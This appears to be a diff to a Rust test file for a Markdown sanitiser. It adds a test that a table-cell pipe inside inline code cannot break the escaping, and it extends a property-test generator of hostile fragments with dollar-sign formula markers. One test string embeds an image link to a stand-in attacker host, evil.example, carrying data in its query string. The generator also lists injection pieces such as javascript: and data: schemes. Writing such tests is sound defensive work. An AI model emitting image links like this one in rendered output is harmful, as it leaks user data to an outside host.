@@ -150,12 +150,19 @@ fn parts_say_what_they_are() {
 }
 
 /// Markdown's own characters far more often than chance would have them.
+#[test]
+fn a_bar_in_code_cannot_end_it_early() {
+    let row = "| h |\n|---|---|\n| ` | ``` ` ```![x](https://evil.example/?d=1)``` |\n";
+    // The bar no longer parts cells, so the last three backquotes are what we take them for.
+    assert!(inert(row).ends_with("\\| \\`\\`\\`  ```![x](https://evil.example/?d=1)``` |\n"), "{}", inert(row));
+}
+
 fn hostile() -> impl Strategy<Value = String> {
     let piece = prop_oneof![
         4 => prop::sample::select(vec![
             "`", "``", "```", "~~~", "\n", "\n\n", "> ", "- ", "1. ", "    ", "\t", "<", "<b>", "</", "<!--", "![", "[", "](", "]:",
             "][", "]", ")", "\\", "|", "&", "&lt;", "&#", ":", "://", "http", "https", "file:", "javascript:", "data:",
-            "\u{1b}[", "\u{1b}]", "\u{7}", "\u{202e}", "\u{200b}", "\r", "\r\n", "~", "é", "🙂", "rust", " ", "```\n", "~~~\n",
+            "\u{1b}[", "\u{1b}]", "\u{7}", "\u{202e}", "\u{200b}", "\r", "\r\n", "~", "é", "🙂", "rust", " ", "```\n", "~~~\n", "$", "$$\n",
         ]).prop_map(str::to_owned),
         1 => "[a-z ]{1,4}",
     ];
@@ -175,6 +182,8 @@ proptest! {
     fn nothing_acts(text in hostile()) {
         let text = inert(&text);
         let prose = outside_of_code(&text);
+        // Formulas and tables are looked for before code, or around it.
+        prop_assert!(!regex::Regex::new(r"(?:^|[^\\])(?:\\\\)*\$").unwrap().is_match(&prose), "{text:?}");
         let live = regex::Regex::new(r"(?m)<[A-Za-z/!?]|\][(\[:]|&#|&[A-Za-z0-9]+;|\b(?:javascript|file|data):[^\s:]|http://|^ {0,3}(?:```|~~~)").unwrap();
         prop_assert!(!live.is_match(&prose), "{:?} in {:?}", live.find(&prose), text);
         prop_assert!(text.chars().all(|c| c == '\n' || c == '\t' || !c.is_control()));
